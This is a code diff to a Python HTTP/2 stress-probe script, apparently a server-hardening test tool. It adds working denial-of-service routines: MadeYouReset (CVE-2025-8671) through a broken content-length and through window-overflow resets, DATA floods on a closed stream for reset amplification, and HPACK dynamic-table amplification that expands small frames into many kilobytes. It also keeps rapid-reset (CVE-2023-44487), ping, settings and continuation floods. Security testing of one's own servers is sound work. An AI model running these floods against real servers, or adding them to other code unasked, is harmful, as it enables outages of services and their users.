@@ -9,6 +9,7 @@ limit), and reports what the server did. Run by hand against any server:
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import dataclasses
 import socket
 import sys
@@ -17,6 +18,7 @@ from collections.abc import Callable
 import h2.config
 import h2.connection
 import h2.settings
+import hpack
 from hyperframe.frame import (
     ContinuationFrame,
     DataFrame,
@@ -26,6 +28,7 @@ from hyperframe.frame import (
     PingFrame,
     RstStreamFrame,
     SettingsFrame,
+    WindowUpdateFrame,
 )
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -37,6 +40,8 @@ class ProbeResult:
     closed_by_server: bool
     goaway_code: int | None
     bytes_sent: int
+    #: RST_STREAM frames the server sent (its replies, or streams it refused).
+    resets_received: int = 0
 
 
 def _client(settings: dict[int, int] | None = None) -> h2.connection.H2Connection:
@@ -69,15 +74,23 @@ async def _watch(reader: asyncio.StreamReader, result: ProbeResult) -> None:
                 del buffer[: 9 + length]
                 if isinstance(frame, GoAwayFrame):
                     result.goaway_code = frame.error_code
+                elif isinstance(frame, RstStreamFrame):
+                    result.resets_received += 1
     except (ConnectionError, OSError):
         result.closed_by_server = True
 
 
 async def _flood(
-    name: str, host: str, port: int, first: bytes, chunk: bytes | Callable[[], bytes], limit: float
+    name: str,
+    host: str,
+    port: int,
+    first: bytes,
+    chunk: bytes | Callable[[], bytes],
+    limit: float,
+    pause: float = 0.0,
 ) -> ProbeResult:
-    """Send ``first``, then ``chunk`` (or what it returns) over and over until the server
-    closes the connection, or for ``limit`` seconds."""
+    """Send ``first``, then ``chunk`` (or what it returns) over and over, ``pause``
+    seconds apart, until the server closes the connection, or for ``limit`` seconds."""
     result = ProbeResult(name, False, None, 0)
     reader, writer = await asyncio.open_connection(host, port)
     watcher = asyncio.create_task(_watch(reader, result))
@@ -94,7 +107,7 @@ async def _flood(
                 await asyncio.wait_for(writer.drain(), 1.0)
             except TimeoutError:
                 pass  # the server stopped reading us: fine, keep watching
-            await asyncio.sleep(0)
+            await asyncio.sleep(pause)
         await asyncio.wait_for(asyncio.shield(watcher), max(0.1, deadline - loop.time()))
     except (ConnectionError, OSError, TimeoutError):
         pass
@@ -108,22 +121,30 @@ def _handshake(conn: h2.connection.H2Connection) -> bytes:
     return conn.data_to_send()
 
 
+def _stream_pairs(encoded: bytes, end_stream: bool, follow: Callable[[int], bytes], count: int) -> Callable[[], bytes]:
+    """Batches of ``count`` new streams: HEADERS with the block ``encoded``, then
+    ``follow(stream_id)``, on streams 1, 3, 5, ..."""
+    stream_id = 1
+    flags = ["END_HEADERS", "END_STREAM"] if end_stream else ["END_HEADERS"]
+
+    def batch() -> bytes:
+        nonlocal stream_id
+        out = bytearray()
+        for _ in range(count):
+            out += HeadersFrame(stream_id, encoded, flags=flags).serialize()
+            out += follow(stream_id)
+            stream_id += 2
+        return bytes(out)
+
+    return batch
+
+
 async def rapid_reset(host: str, port: int, limit: float = 10.0) -> ProbeResult:
     """HEADERS immediately followed by RST_STREAM, on ever new streams (CVE-2023-44487)."""
     conn = _client()
     first = _handshake(conn)
     encoded = bytes(conn.encoder.encode(_request("/", host)))
-    stream_id = 1
-
-    def batch() -> bytes:
-        nonlocal stream_id
-        out = bytearray()
-        for _ in range(500):
-            out += HeadersFrame(stream_id, encoded, flags=["END_HEADERS", "END_STREAM"]).serialize()
-            out += RstStreamFrame(stream_id, 0x8).serialize()
-            stream_id += 2
-        return bytes(out)
-
+    batch = _stream_pairs(encoded, True, lambda stream_id: RstStreamFrame(stream_id, 0x8).serialize(), 500)
     return await _flood("rapid reset", host, port, first, batch, limit)
 
 
@@ -183,13 +204,113 @@ async def slow_read(host: str, port: int, path: str = "/", limit: float = 10.0) 
     return result
 
 
-PROBES = (rapid_reset, ping_flood, settings_flood, empty_data_flood, continuation_flood, hpack_bomb)
+async def made_you_reset(host: str, port: int, limit: float = 10.0) -> ProbeResult:
+    """MadeYouReset (CVE-2025-8671): requests that make the *server* reset them. Each
+    declares ``content-length: 0``, then sends one byte of body: the server starts the
+    handler, then must reset the stream for the broken content-length. Batches of 50,
+    a little apart, so the handlers finish in between and never fill the stream limit."""
+    conn = _client()
+    first = _handshake(conn)
+    encoded = bytes(conn.encoder.encode([*_request("/", host), (b"content-length", b"0")]))
+    batch = _stream_pairs(encoded, False, lambda stream_id: DataFrame(stream_id, b"x", flags=["END_STREAM"]).serialize(), 50)
+    return await _flood("MadeYouReset (content-length)", host, port, first, batch, limit, pause=0.01)
+
+
+async def window_overflow_reset(host: str, port: int, limit: float = 10.0) -> ProbeResult:
+    """MadeYouReset again: a WINDOW_UPDATE that overflows a new stream's window makes
+    the server reset it (FLOW_CONTROL_ERROR). Paced as ``made_you_reset``."""
+    conn = _client()
+    first = _handshake(conn)
+    encoded = bytes(conn.encoder.encode(_request("/", host)))
+    batch = _stream_pairs(encoded, False, lambda stream_id: WindowUpdateFrame(stream_id, 2**31 - 1).serialize(), 50)
+    return await _flood("MadeYouReset (window overflow)", host, port, first, batch, limit, pause=0.01)
+
+
+async def closed_stream_data(host: str, port: int, limit: float = 10.0) -> ProbeResult:
+    """Reset amplification: reset stream 1, then keep sending DATA on it. Each frame asks
+    for a RST_STREAM(STREAM_CLOSED) back; ``resets_received`` counts how many came."""
+    conn = _client()
+    first = _handshake(conn)
+    request = [(b":method", b"POST"), *_request("/", host)[1:]]
+    first += HeadersFrame(1, bytes(conn.encoder.encode(request)), flags=["END_HEADERS"]).serialize()
+    first += RstStreamFrame(1, 0x8).serialize()
+    # One byte each. The server credits DATA on closed streams back to the connection
+    # window at once, so nothing but a budget bounds the flood.
+    return await _flood("DATA on a reset stream", host, port, first, DataFrame(1, b"x").serialize() * 2000, limit)
+
+
+#: A field inserted into the HPACK dynamic table once, then referenced by index 62.
+_BIG_FIELD = (b"x-big", b"b" * 4000)
+_BIG_FIELD_REFERENCES = 15
+
+
+def _referencing_requests(conn: h2.connection.H2Connection, host: str, path: str) -> Callable[[int], bytes]:
+    """HEADERS frames (no END_STREAM: the request stays open) of a few dozen bytes on
+    the wire that decode to 15 copies of ``_BIG_FIELD``: 60 KB each. The first one
+    inserts the field; nothing else enters the dynamic table, so it stays index 62."""
+    encoder = conn.encoder
+    request = [hpack.NeverIndexedHeaderTuple(name, value) for name, value in _request(path, host)]
+    base = bytes(encoder.encode(request))
+    first = base + bytes(encoder.encode([_BIG_FIELD])) + b"\xbe" * (_BIG_FIELD_REFERENCES - 1)
+    again = base + b"\xbe" * _BIG_FIELD_REFERENCES
+
+    def frame(stream_id: int) -> bytes:
+        return HeadersFrame(stream_id, first if stream_id == 1 else again, flags=["END_HEADERS"]).serialize()
+
+    return frame
+
+
+async def hpack_amplification(host: str, port: int, limit: float = 10.0, streams: int | None = None) -> ProbeResult:
+    """HPACK amplification below every per-request limit: streams that stay open and
+    each decode to 60 KB from 27 bytes. With ``streams``, open that many, hold them
+    for ``limit`` seconds and leave; without, keep opening new ones until closed."""
+    conn = _client()
+    first = _handshake(conn)
+    frame = _referencing_requests(conn, host, "/api/books/7")
+    stream_id = 1
+    if streams is not None:
+        result = ProbeResult(f"HPACK amplification ({streams} streams held)", False, None, 0)
+        reader, writer = await asyncio.open_connection(host, port)
+        watcher = asyncio.create_task(_watch(reader, result))
+        data = first + b"".join(frame(1 + 2 * i) for i in range(streams))
+        writer.write(data)
+        result.bytes_sent = len(data)
+        with contextlib.suppress(TimeoutError):
+            await asyncio.wait_for(asyncio.shield(watcher), limit)
+        watcher.cancel()
+        writer.close()
+        return result
+
+    def batch() -> bytes:
+        nonlocal stream_id
+        out = bytearray()
+        for _ in range(50):
+            out += frame(stream_id)
+            stream_id += 2
+        return bytes(out)
+
+    return await _flood("HPACK amplification", host, port, first, batch, limit)
+
+
+PROBES = (
+    rapid_reset,
+    ping_flood,
+    settings_flood,
+    empty_data_flood,
+    continuation_flood,
+    hpack_bomb,
+    made_you_reset,
+    window_overflow_reset,
+    closed_stream_data,
+    hpack_amplification,
+)
 
 
 async def _main(host: str, port: int) -> None:
     for probe in PROBES:
         print(await probe(host, port))
     print(await slow_read(host, port, limit=2.0))
+    print(await hpack_amplification(host, port, limit=2.0, streams=100))
 
 
 if __name__ == "__main__":
